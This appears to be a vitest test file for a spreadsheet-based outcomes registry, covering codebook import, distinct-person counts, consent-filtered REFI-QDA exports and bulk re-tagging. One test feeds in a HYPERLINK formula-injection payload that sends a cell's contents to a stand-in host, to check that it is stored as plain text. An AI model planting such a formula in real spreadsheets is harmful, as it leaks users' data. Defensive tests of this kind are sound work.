// Themes, distinct-person counts and exchange files through the built bundle, as the sidebar and the CLI call them.
import { readFileSync } from 'node:fs';
import { beforeEach, describe, expect, it } from 'vitest';
import { cidsFile, codebookFile, projectFile, readCodebookFile, readCodingsFile } from '../../shared/exchange/files';
import { failed, succeeded, testRegistry, type TestRegistry } from './runtime';
import { observationRecord } from '../observation-records';

/** February's observations, for funders unless a test says otherwise. */
const observation = (n: number, extra: Record<string, unknown>) =>
  observationRecord(n, { createdAt: '2026-02-10T09:00:00.000Z', updatedAt: '2026-02-10T09:00:00.000Z', text: `Je revois du monde depuis le groupe (${n})`, tags: [], scope: 'financeurs', ...extra });

function column(registry: TestRegistry, tab: string, header: string): unknown[] {
  const [headers = [], ...rows] = registry.tab(tab);
  const index = headers.indexOf(header);
  expect(index, `column « ${header} »`).toBeGreaterThanOrEqual(0);
  return rows.map((r) => r[index]);
}

/** Types a row into a tab under its headers, as a person would in the spreadsheet. */
function typeRow(registry: TestRegistry, tab: string, cells: Record<string, string>): void {
  const sheet = registry.services.globals.SpreadsheetApp.getActiveSpreadsheet().getSheetByName(tab)!;
  const headers = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0]!.map(String);
  const row = sheet.getLastRow() + 1;
  for (const [header, value] of Object.entries(cells)) sheet.getRange(row, headers.indexOf(header) + 1).setValue(value);
}

describe('themes, counts and exchanges in the registry', () => {
  let registry: TestRegistry;
  let token: string;

  beforeEach(() => {
    registry = testRegistry();
    succeeded(registry.run('configureRegistry', { lang: 'fr', template: 'aidants' }));
    token = succeeded(registry.run('getConnectionCode')).code.slice('repere1:'.length).split('@')[0]!;
  });

  it('a QualCoder codebook becomes themes; the dashboard says « 8 personnes sur 14 rencontrées évoquent… »', () => {
    const read = readCodebookFile('qualcoder-codebook.qdc', new Uint8Array(readFileSync('tests/fixtures/exchange/qualcoder-codebook.qdc')));
    if (!read.ok) throw new Error(read.message);
    const waiting = failed(registry.run('importCodebook', { codes: read.codes, file: 'qualcoder-codebook.qdc' }));
    expect(waiting.message).toContain('ne correspondent à aucun changement visé (« Transport », « Isolement », « Répit »)');
    expect(registry.tab('themes')).toHaveLength(1);
    const done = succeeded(registry.run('importCodebook', { codes: read.codes, looseOutcome: 'C3', file: 'qualcoder-codebook.qdc' }));
    expect(done.summary).toBe('Livre de codes « qualcoder-codebook.qdc » importé : 7 thèmes créés, 0 code déjà présent.');
    expect(column(registry, 'themes', 'Libellé')).toContain('Isolement › Se sentir moins seul');
    const t = (label: string) => String(column(registry, 'themes', 'Identifiant')[column(registry, 'themes', 'Libellé').indexOf(label)]);
    const lonely = t('Isolement › Se sentir moins seul');

    // 14 people met in February, 8 of them raise the theme, one three times; an observation with no person code.
    const records = [
      ...Array.from({ length: 8 }, (_, i) => observation(i, { personId: `P-${i}`, tags: [lonely] })),
      observation(20, { personId: 'P-0', tags: [lonely] }), observation(21, { personId: 'p-0', tags: ['Isolement › Se sentir moins seul'] }),
      ...Array.from({ length: 6 }, (_, i) => observation(30 + i, { personId: `Q-${i}`, tags: [t('Transport')] })),
      observation(40, { tags: [lonely] }),
    ];
    expect(registry.post({ v: 1, op: 'putObservations', token, records }).accepted).toHaveLength(records.length);
    expect(column(registry, 'observations', 'Personne').slice(0, 2)).toEqual(['P-0', 'P-1']);
    typeRow(registry, 'Indicateurs', {
      Code: 'I20', Nom: 'Aidants qui disent se sentir moins seuls', Changement: 'C3', Nature: 'qualitatif', Méthode: 'personnes distinctes qui évoquent le thème',
      Source: 'observations', Thèmes: lonely, Unité: 'personnes', Périodicité: 'mois',
    });
    expect(succeeded(registry.run('checkRegistry')).problems.filter((p) => p.message.includes('Indicateurs!'))).toEqual([]);
    succeeded(registry.run('computeRegistry'));
    const dashboard = registry.tab('dashboard');
    const line = dashboard.find((r) => String(r[1]).startsWith('I20'))!;
    expect(line.slice(2, 6)).toEqual(['2026-02', '8 personnes sur 14 rencontrées', '', 14]);
    const values = registry.tab('values');
    const row = values.find((r) => r[0] === 'I20')!;
    expect(String(row[values[0]!.indexOf('Calcul')])).toBe('8 personnes sur 14 rencontrées évoquent « Isolement › Se sentir moins seul » (11 observations de la période ; une personne citée plusieurs fois compte une fois).');
    expect(String(row[values[0]!.indexOf('Alertes')])).toContain('1 observation de la période sans code personne');

    // Distinct persons are people: 8 and 6 are under 11, so no CIDS report carries this figure.
    const cids = cidsFile(succeeded(registry.run('prepareCidsExport', { audience: 'funders' })), new Date('2026-04-01T00:00:00Z'));
    expect(cids.content).not.toContain('I20 — 2026-02');
    expect(cids.summary).toContain('masquée');
  });

  it('gives each code its exchange GUID once and keeps it; the .qdc and the .qdpx carry them', () => {
    typeRow(registry, 'Thèmes', { Identifiant: 'T1', Changement: 'C3', Libellé: 'Se sentir moins seul' });
    const first = succeeded(registry.run('prepareCodebookExport'));
    const guids = [...first.outcomes, ...first.themes].map((c) => c.guid);
    expect(guids.every((g) => /^[0-9A-F]{8}-[0-9A-F-]{27}$/.test(g))).toBe(true);
    expect(column(registry, 'themes', 'Identifiant d’échange')).toEqual([first.themes[0]!.guid]);
    const again = succeeded(registry.run('prepareCodebookExport'));
    expect([...again.outcomes, ...again.themes].map((c) => c.guid)).toEqual(guids);
    const qdc = codebookFile(again, 'qdc', new Date());
    expect(qdc.content).toContain(`<Code guid="${first.themes[0]!.guid}" name="Se sentir moins seul" isCodable="true"/>`);
  });

  it('a .qdpx for funders holds only what their usage allows; its codings come back onto the same observations', () => {
    typeRow(registry, 'Thèmes', { Identifiant: 'T1', Changement: 'C3', Libellé: 'Se sentir moins seul' });
    registry.post({
      v: 1, op: 'putObservations', token, records: [
        observation(1, { personId: 'P-1', tags: ['T1'] }),
        observation(2, { personId: 'P-2', tags: ['C2'] }),
        observation(3, { personId: 'P-3', tags: ['T1'], consent: null, scope: 'interne' }),
      ],
    });
    const data = succeeded(registry.run('prepareProjectExport', { audience: 'funders' }));
    expect(data.observations.map((o) => o.personId)).toEqual(['P-1', 'P-2']);
    expect(data.withheld).toBe(1);
    const file = projectFile(data, new Date('2026-04-01T00:00:00Z'));
    expect(file.summary).toBe('Projet REFI-QDA : 2 observations dont l’usage le permet, 1 laissée de côté (consentement ou usage).');
    // The codings are removed in the registry, then brought back from the file.
    succeeded(registry.run('retagObservations', { ids: data.observations.map((o) => o.id), remove: ['T1', 'C2'] }));
    expect(column(registry, 'observations', 'Thèmes')).toEqual(['', '', 'T1']);
    const read = readCodingsFile(file.name, file.content as Uint8Array);
    if (!read.ok) throw new Error(read.message);
    const back = succeeded(registry.run('importCodings', { codes: read.codes, sources: read.sources, origin: read.origin, file: file.name }));
    expect(back.summary).toContain('2 codages rapportés sur 2 observations, 0 déjà présent');
    expect(column(registry, 'observations', 'Thèmes')).toEqual(['T1', 'C2', 'T1']);
    const journal = registry.tab('journal').map((r) => String(r[3]));
    expect(journal.some((d) => d.startsWith('Projet REFI-QDA (.qdpx) préparé pour financeurs : 2 observations, 1 laissée de côté'))).toBe(true);
    // « Usage interne » holds all three, and says so.
    const internal = projectFile(succeeded(registry.run('prepareProjectExport', { audience: 'team' })), new Date());
    expect(internal.name).toMatch(/-usage-interne-/);
    expect(internal.summary).toContain('3 observations, y compris sans consentement');
  });

  it('writes an imported code named like a formula as text, never as a formula', () => {
    const code = { guid: '', name: '=HYPERLINK("http://x.example/?"&A1;"clic")', isCodable: true, color: '', description: '+33 6 00 00 00 00', children: [] };
    succeeded(registry.run('importCodebook', { codes: [code], looseOutcome: 'C1' }));
    const sheet = registry.services.globals.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Thèmes')!;
    expect(sheet.getRange(2, 3).getFormula()).toBe('');
    expect(column(registry, 'themes', 'Libellé')).toEqual(['=HYPERLINK("http://x.example/?"&A1;"clic")']);
  });

  it('re-tags in bulk: adds and removes a theme by id or label, leaving the others alone', () => {
    typeRow(registry, 'Thèmes', { Identifiant: 'T1', Changement: 'C3', Libellé: 'Se sentir moins seul' });
    registry.post({ v: 1, op: 'putObservations', token, records: [observation(1, { tags: ['Se sentir moins seul', 'répit'] }), observation(2, { tags: [] }), observation(3, { tags: ['T1'] })] });
    const list = succeeded(registry.run('getObservationsForTagging'));
    expect(list.codes.find((c) => c.id === 'T1')).toEqual({ id: 'T1', label: 'Se sentir moins seul', kind: 'theme', outcome: 'C3' });
    const ids = list.observations.map((o) => o.id);
    expect(succeeded(registry.run('retagObservations', { ids: ids.slice(0, 2), add: ['C2'], remove: ['T1'] })).summary).toBe('2 observations sur 2 réétiquetées (ajout de C2 et retrait de T1).');
    expect(column(registry, 'observations', 'Thèmes')).toEqual(['répit, C2', 'C2', 'T1']);
    expect(failed(registry.run('retagObservations', { ids: [], add: ['C2'] })).message).toBe('Cochez d’abord les observations à étiqueter.');
  });
});
